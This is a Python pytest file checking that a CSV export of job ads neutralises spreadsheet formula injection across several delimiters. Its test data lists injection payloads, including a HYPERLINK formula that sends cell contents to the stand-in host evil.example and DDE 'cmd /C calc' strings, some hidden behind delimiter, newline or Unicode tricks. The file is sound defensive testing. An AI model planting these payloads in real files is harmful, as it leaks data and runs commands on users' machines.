"""A CSV export computes nothing, however the reader's spreadsheet splits it; lists stay readable."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from tests.adversary.insider import Home

STORY = "Nanny in Muscat. Free visa, the agent keeps your passport, fee of 300 dollars in advance."
LINK = '=HYPERLINK("https://evil.example/?"&A1;"open")'
ATTACKS = (
    f"Cook;{LINK}", f"Cook; {LINK}", f'Cook;"{LINK}"', f"Cook;' {LINK}", f"Cook\n{LINK}", f"Cook\r\n{LINK}",
    f"Cook\t{LINK}", f"Cook|{LINK}", "Cook;+1+1", "Cook;-1+1", "Cook;@SUM(1)", "Cook;- cmd|' /C calc'!A0",
    "Cook\n- cmd|' /C calc'!A0",
    "Cook;\uff1d1+1", f"Cook;\u200b{LINK}", f"Cook;;;{LINK}", f"Cook;\u00a0{LINK}", "Cook\u2028=1+1", "Cook;+1(2)",
    LINK, "=1+1", "+1+1", "-1+1", "@A1", '"=1+1', "\uff0b1+1",
)  # fmt: skip
LISTS = "Offered:\n- free ticket\n- visa; food\n- call +2348030000301;+2348030000302\n+2348030000303"
COMPUTED = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def cells(path: Path, mark: str) -> list[str]:
    """The cells as a spreadsheet makes them that splits at this mark."""
    found: list[str] = []
    for file in sorted(path.glob("*.csv")):
        with file.open(encoding="utf-8-sig", newline="") as lines:
            found += [one for row in csv.reader(lines, delimiter=mark) for one in row]
    return found


def computes(cell: str) -> bool:
    plain = cell.strip(" \u00a0\u200b\u2028")
    if not plain.startswith(COMPUTED) or re.match(r"\+?\d+(?![\w(+*/^&=<>!.:-])", plain):
        return False
    return not (plain.startswith("- ") and not set("()|!") & set(plain))


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("cells")
    home = Home(folder / "home")
    ads = [
        {"id": f"ad-{n}", "title": attack, "hiring_organization": attack, "url": f"https://b.example/{n}",
         "description": f"{STORY}\n{attack}\n{LISTS}", "remarks": attack}
        for n, attack in enumerate(ATTACKS)
    ]  # fmt: skip
    home.bring(ads)
    done = home("export", "--format", "csv", "--out", str(folder / "out"))
    assert done.status == 0, done.all
    return folder / "out"


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_no_cell_is_computed(export: Path, mark: str) -> None:
    assert [one[:60] for one in cells(export, mark) if computes(one)] == []


def test_lists_and_numbers_stay_as_they_were_written(export: Path) -> None:
    assert any(LISTS in one for one in cells(export, ","))
